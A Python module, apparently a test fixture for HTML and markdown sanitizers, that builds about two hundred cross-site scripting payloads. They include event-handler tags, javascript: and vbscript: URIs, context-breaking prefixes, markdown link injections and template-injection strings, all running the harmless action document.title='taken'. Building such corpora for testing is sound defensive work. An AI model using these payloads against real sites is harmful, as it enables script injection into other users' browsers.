"""Two hundred texts that run where a page takes them for anything but text."""

from __future__ import annotations

from itertools import product
from typing import Final

_RUN: Final = "document.title='taken'"
_HANDLERS: Final = (
    *('img src=x onerror="{}"', 'svg onload="{}"', 'body onload="{}"', 'video src=x onerror="{}"'),
    *('details open ontoggle="{}"', 'input autofocus onfocus="{}"', 'marquee onstart="{}"'),
    *('iframe src="javascript:{}"', 'a href="javascript:{}"', 'form action="javascript:{}"'),
    *('object data="javascript:{}"', 'embed src="javascript:{}"', 'svg><animate onbegin="{}"'),
    *('math href="javascript:{}"', 'style onload="{}"', 'iframe srcdoc="<script>{}</script>"'),
    *('link rel=stylesheet href="javascript:{}"', "script>{}</script", 'img/src=x/onerror="{}"'),
    'audio src onerror="{}"',
)
_BEFORE: Final = ("", '">', "'>", "</textarea>", "</title>", "-->", "]]>", "</pre>", "`", "&lt;")
_MARKDOWN: Final = (
    *("[x](javascript:{})", "[x](JaVaScRiPt:{})", "![x](javascript:{})", "<javascript:{}>"),
    *("[x](data:text/html,<script>{}</script>)", "[x](vbscript:{})", "[x]( javascript:{} )"),
    *('[x](https://a.b" onmouseover="{})', '![x](https://a.b" onerror="{})', "[x]: javascript:{}"),
    *("```\n</code><script>{}</script>\n```", "| <script>{}</script> |\n|--|\n| x |"),
    *("!!js/function 'function(){{ {} }}'", "{{{{constructor.constructor('{}')()}}}}", "${{{}}}"),
)

PAYLOADS: Final = tuple(
    dict.fromkeys(
        [
            *(f"{before}<{tag.format(_RUN)}>" for before, tag in product(_BEFORE, _HANDLERS)),
            *(text.format(_RUN) for text in _MARKDOWN),
        ]
    )
)
